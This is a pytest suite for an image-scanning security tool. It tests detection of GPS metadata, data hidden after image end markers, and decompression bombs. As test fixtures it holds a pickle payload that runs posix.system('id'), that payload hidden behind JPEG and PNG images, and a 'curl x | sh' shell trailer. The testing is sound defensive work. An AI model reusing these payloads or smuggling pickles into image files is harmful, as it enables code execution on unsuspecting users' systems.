"""Images: EXIF/XMP GPS, data appended after the end marker (handed to the engine), pixel bombs.

Images are assembled here from their structures (JPEG segments, PNG chunks, RIFF chunks, TIFF
IFDs) with a small EXIF writer, so every case is exact; Pillow, when installed, writes the same
GPS tags through its own EXIF API as a cross-check. The committed fixtures under
``fixtures/data/images`` were written by Pillow.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from mlsec.model import ScanResult
from tests.conftest import FIXTURES, rules_of, scan_bytes, scan_path

IMAGES = FIXTURES / "data" / "images"
PAYLOAD = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


# --- builders -------------------------------------------------------------------------------

def exif_tiff(lat: tuple[int, ...] = (48, 1, 51, 1, 29, 1), lon: tuple[int, ...] = (2, 1, 17, 1, 40, 1),
              big_endian: bool = False, size: tuple[int, int] | None = None) -> bytes:
    """A TIFF structure: IFD0 (optionally width/height) pointing to a GPS IFD."""
    e = ">" if big_endian else "<"
    ifd0_entries = []
    if size:
        ifd0_entries += [(0x100, 4, 1, size[0]), (0x101, 4, 1, size[1])]
    n0 = len(ifd0_entries) + 1
    gps_off = 8 + 2 + 12 * n0 + 4
    ifd0_entries.append((0x8825, 4, 1, gps_off))
    gps_entries = 4
    data_off = gps_off + 2 + 12 * gps_entries + 4
    out = (b"MM\x00*" if big_endian else b"II*\x00") + struct.pack(e + "I", 8)
    out += struct.pack(e + "H", n0)
    for tag, typ, count, value in ifd0_entries:
        out += struct.pack(e + "HHII", tag, typ, count, value)
    out += struct.pack(e + "I", 0)
    out += struct.pack(e + "H", gps_entries)
    out += struct.pack(e + "HHI", 1, 2, 2) + b"N\x00\x00\x00"
    out += struct.pack(e + "HHII", 2, 5, 3, data_off)
    out += struct.pack(e + "HHI", 3, 2, 2) + b"E\x00\x00\x00"
    out += struct.pack(e + "HHII", 4, 5, 3, data_off + 24)
    out += struct.pack(e + "I", 0)
    out += struct.pack(e + "6I", *lat) + struct.pack(e + "6I", *lon)
    return out


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(app: bytes = b"", size: tuple[int, int] = (24, 32), scan: bytes = b"\x12\x34\xff\x00\x56\xff\xd3\x78",
         scans: int = 1) -> bytes:
    """A structurally valid JPEG (segments, a scan with byte stuffing and a restart marker)."""
    out = b"\xff\xd8" + app + segment(0xDB, b"\x00" + bytes(range(64)))
    out += segment(0xC0, b"\x08" + struct.pack(">HH", size[0], size[1]) + b"\x01\x01\x11\x00")
    out += segment(0xC4, b"\x00" + bytes(16) + b"\x00")
    for _ in range(scans):
        out += segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + scan
    return out + b"\xff\xd9"


def png_chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def png(extra: list[bytes] = (), size: tuple[int, int] = (2, 2)) -> bytes:  # type: ignore[assignment]
    ihdr = struct.pack(">IIBBBBB", size[0], size[1], 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\x80\x40\x20" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + b"".join(extra)
            + png_chunk(b"IDAT", zlib.compress(raw)) + png_chunk(b"IEND", b""))


def webp(chunks: list[bytes]) -> bytes:
    body = b"WEBP" + png_free_riff(b"VP8L", b"\x2f\x01\x00\x00\x00" + b"\x00" * 8) + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def png_free_riff(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


def gif(trailer: bytes = b"") -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 2, 2, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 2, 2, 0) + b"\x02\x02\x44\x01\x00"
    comment = b"\x21\xfe\x05hello\x00"
    return head + comment + image + b"\x3b" + trailer


def exif_app1(**kw: object) -> bytes:
    return segment(0xE1, b"Exif\x00\x00" + exif_tiff(**kw))  # type: ignore[arg-type]


def rules(result: ScanResult) -> dict[str, list[dict[str, str]]]:
    out: dict[str, list[dict[str, str]]] = {}
    for f in result.findings:
        ev = dict(f.evidence) | {"_sev": f.severity.label, "_member": f.location.member or "",
                                 "_msg": f.message}
        out.setdefault(f.rule_id, []).append(ev)
    return out


# --- GPS ------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.jpg", jpeg(exif_app1())),
        ("photo_be.jpg", jpeg(exif_app1(big_endian=True))),
        ("image.png", png([png_chunk(b"eXIf", exif_tiff())])),
        ("image.webp", webp([png_free_riff(b"EXIF", exif_tiff())])),
        ("image_prefixed.webp", webp([png_free_riff(b"EXIF", b"Exif\x00\x00" + exif_tiff())])),
        ("scan.tiff", exif_tiff(size=(10, 10)) + b"\x00" * 64),
    ],
)
def test_gps_coordinates_are_found(tmp_path: Path, name: str, data: bytes) -> None:
    result = scan_bytes(tmp_path, name, data)
    (gps,) = rules(result)["MLSEC-DATA-008"]
    assert gps["metadata"] == "EXIF" and gps["_sev"] == "medium"
    assert "48" not in gps["_msg"] and not result.errors


def test_gps_without_coordinates_is_not_reported(tmp_path: Path) -> None:
    zero = (0, 1, 0, 1, 0, 1)
    result = scan_bytes(tmp_path, "zero.jpg", jpeg(exif_app1(lat=zero, lon=zero)))
    assert result.findings == ()


def test_xmp_gps_in_jpeg_png_webp(tmp_path: Path) -> None:
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="48,51.48N" '
           b'exif:GPSLongitude="2,17.67E"/></x:xmpmeta>')
    cases = {
        "x.jpg": jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp)),
        "x.png": png([png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp)]),
        "x.webp": webp([png_free_riff(b"XMP ", xmp)]),
    }
    for name, data in cases.items():
        (gps,) = rules(scan_bytes(tmp_path, name, data))["MLSEC-DATA-008"]
        assert gps["metadata"] == "XMP", name
    empty = xmp.replace(b"48,51.48N", b"0").replace(b"2,17.67E", b"0")
    assert scan_bytes(tmp_path, "empty.jpg", jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + empty))
                      ).findings == ()


def test_pillow_written_gps_is_found_and_pillow_agrees_with_ours(tmp_path: Path) -> None:
    image_mod = pytest.importorskip("PIL.Image")
    img = image_mod.new("RGB", (16, 12), (10, 200, 30))
    exif = image_mod.Exif()
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}
    for ext in ("jpg", "png", "webp"):
        img.save(tmp_path / f"pil.{ext}", exif=exif)
        assert "MLSEC-DATA-008" in rules_of(scan_path(tmp_path / f"pil.{ext}")), ext
    img.save(tmp_path / "pil_nogps.jpg", exif=image_mod.Exif())
    assert scan_path(tmp_path / "pil_nogps.jpg").findings == ()
    # Our hand-made EXIF block, spliced into a Pillow JPEG: Pillow reads the same GPS IFD.
    base = (tmp_path / "pil_nogps.jpg").read_bytes()
    spliced = base[:2] + exif_app1() + base[2:]
    (tmp_path / "spliced.jpg").write_bytes(spliced)
    with image_mod.open(tmp_path / "spliced.jpg") as im:
        assert im.getexif().get_ifd(0x8825).get(2) is not None
    assert "MLSEC-DATA-008" in rules_of(scan_path(tmp_path / "spliced.jpg"))


# --- data after the end marker ---------------------------------------------------------------

def _zip_with_pickle() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload/data.pkl", PAYLOAD)
    return buf.getvalue()


def test_pickle_after_jpeg_eoi_goes_to_the_engine(tmp_path: Path) -> None:
    image = jpeg()
    result = scan_bytes(tmp_path, "cat.jpg", image + PAYLOAD)
    got = rules(result)
    (trail,) = got["MLSEC-DATA-009"]
    assert (trail["_sev"], trail["offset"], trail["trailing_format"]) == ("high", str(len(image)), "pickle")
    (call,) = got["MLSEC-PICKLE-001"]
    assert call["global"] == "posix.system" and call["_member"] == f"@{len(image)}"


def test_zip_after_png_iend_is_opened(tmp_path: Path) -> None:
    image = png()
    got = rules(scan_bytes(tmp_path, "dog.png", image + _zip_with_pickle()))
    assert got["MLSEC-DATA-009"][0]["trailing_format"] == "zip" and got["MLSEC-DATA-009"][0]["_sev"] == "high"
    assert got["MLSEC-PICKLE-001"][0]["_member"] == f"@{len(image)}!payload/data.pkl"


def test_other_trailing_data_is_medium(tmp_path: Path) -> None:
    for name, data in (("a.gif", gif(b"#!/bin/sh\ncurl x | sh\n")), ("a.webp", webp([]) + b"extra bytes here"),
                       ("a.png", png() + b"\x01\x02\x03 some binary")):
        (trail,) = rules(scan_bytes(tmp_path, name, data))["MLSEC-DATA-009"]
        assert trail["_sev"] == "medium", name


def test_stuffed_bytes_and_restart_markers_do_not_end_the_image(tmp_path: Path) -> None:
    image = jpeg(scan=b"\x00\xff\x00\xff\xd0\x11\xff\xff\xd7" * 50, scans=3)  # progressive-like: 3 scans
    assert scan_bytes(tmp_path, "ok.jpg", image).findings == ()
    (trail,) = rules(scan_bytes(tmp_path, "bad.jpg", image + b"tail"))["MLSEC-DATA-009"]
    assert trail["offset"] == str(len(image))


def test_camera_trailers_are_not_findings(tmp_path: Path) -> None:
    image = jpeg()
    mp4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 32
    for name, data in (("mpf.jpg", image + jpeg(size=(8, 8))), ("motion.jpg", image + mp4),
                       ("pad.jpg", image + b"\x00" * 4096), ("pad.png", png() + b"\x00" * 100)):
        assert scan_bytes(tmp_path, name, data).findings == (), name
    # ... but a payload behind the second (MPF) image is still found.
    result = scan_bytes(tmp_path, "mpf_payload.jpg", image + jpeg(size=(8, 8)) + PAYLOAD)
    assert {"MLSEC-DATA-009", "MLSEC-PICKLE-001"} <= rules_of(result)


# --- pixel bombs and damage ------------------------------------------------------------------

def test_decompression_bomb_dimensions(tmp_path: Path) -> None:
    assert "MLSEC-DATA-010" in rules_of(scan_bytes(tmp_path, "bomb.png", png(size=(20_000, 20_000))))
    assert "MLSEC-DATA-010" in rules_of(scan_bytes(tmp_path, "bomb.jpg", jpeg(size=(65_000, 65_000))))
    assert "MLSEC-DATA-010" in rules_of(scan_bytes(tmp_path, "bomb.tiff", exif_tiff(size=(50_000, 50_000))))
    assert scan_bytes(tmp_path, "big_ok.png", png(size=(10_000, 10_000))).findings == ()


@pytest.mark.parametrize("name", ["truncated.jpg", "truncated.png", "truncated.gif"])
def test_truncated_images_are_not_findings(tmp_path: Path, name: str) -> None:
    data = {"truncated.jpg": jpeg(), "truncated.png": png(), "truncated.gif": gif()}[name]
    result = scan_bytes(tmp_path, name, data[: len(data) - 5])
    assert not result.errors
    assert "MLSEC-DATA-009" not in rules_of(result)


def test_malformed_structures_are_findings(tmp_path: Path) -> None:
    bad_chunk = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 1 << 30) + b"IDAT" + b"\x00" * 16
    assert "MLSEC-DATA-015" in rules_of(scan_bytes(tmp_path, "bad.png", bad_chunk))
    bad_marker = b"\xff\xd8" + segment(0xE0, b"JFIF\x00" + b"\x00" * 9) + b"\x12\x34\x56"  # no marker next
    assert "MLSEC-DATA-015" in rules_of(scan_bytes(tmp_path, "bad.jpg", bad_marker))
    bad_gif = b"GIF89a" + struct.pack("<HHBBB", 2, 2, 0, 0, 0) + b"\x99"
    assert "MLSEC-DATA-015" in rules_of(scan_bytes(tmp_path, "bad.gif", bad_gif))


def test_mutated_images_never_crash(tmp_path: Path) -> None:
    bases = [jpeg(exif_app1()), png([png_chunk(b"eXIf", exif_tiff())]), gif(), webp([png_free_riff(b"EXIF", exif_tiff())]),
             exif_tiff(size=(4, 4))]
    bases += [p.read_bytes() for p in sorted(IMAGES.glob("*"))] if IMAGES.is_dir() else []
    rng = random.Random(11)
    names = {b"\xff\xd8": "m.jpg", b"\x89P": "m.png", b"GI": "m.gif", b"RI": "m.webp", b"II": "m.tiff"}
    for i in range(300):
        base = bytearray(rng.choice(bases))
        name = names[bytes(base[:2])]
        for _ in range(rng.randint(1, 6)):
            pos = rng.randrange(2, len(base))
            base[pos] = rng.randrange(256)
        if rng.random() < 0.3:
            base = base[: rng.randrange(4, len(base))]
        result = scan_bytes(tmp_path / str(i), name, bytes(base))
        assert not result.errors, (i, result.errors)


def test_pillow_fixtures_are_clean() -> None:
    if not IMAGES.is_dir():
        pytest.skip("fixtures/data/images missing (run fixtures/make_data_fixtures.py)")
    result = scan_path(IMAGES)
    assert len(result.artifacts) == 6
    assert result.findings == () and not result.errors and not result.skipped
